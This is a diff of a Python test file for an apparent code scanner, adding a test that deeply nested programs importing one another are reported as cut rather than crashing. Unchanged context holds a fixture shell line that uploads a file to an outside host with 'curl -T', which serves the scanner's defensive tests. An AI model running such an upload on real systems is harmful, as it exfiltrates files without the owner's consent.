@@ -244,6 +244,15 @@ def test_a_long_row_of_programs_is_cut_and_told():
     assert any("import one another" in limit for limit in context.cut)
 
 
+def test_programs_that_are_each_nested_deep_are_told_and_not_fatal():
+    deep = "".join(f"{' ' * depth}if x:\n" for depth in range(55))
+    programs = {f"m{n}.py": f"{deep}{' ' * 55}import m{n + 1}\n" for n in range(MAX_HOPS + 2)}
+    companions = Companions(programs)
+    context = Context(place=lambda start, end: Place("m0.py", start, end), group="m0.py", companions=companions)
+    python.acts(programs["m0.py"], context)
+    assert context.cut
+
+
 def test_many_calls_are_cut_and_told():
     companions = Companions({"up.sh": f'curl -T "$1" {FAR}\n'})
     context = Context(place=lambda start, end: Place("SKILL.md", start, end), group="SKILL.md", companions=companions)
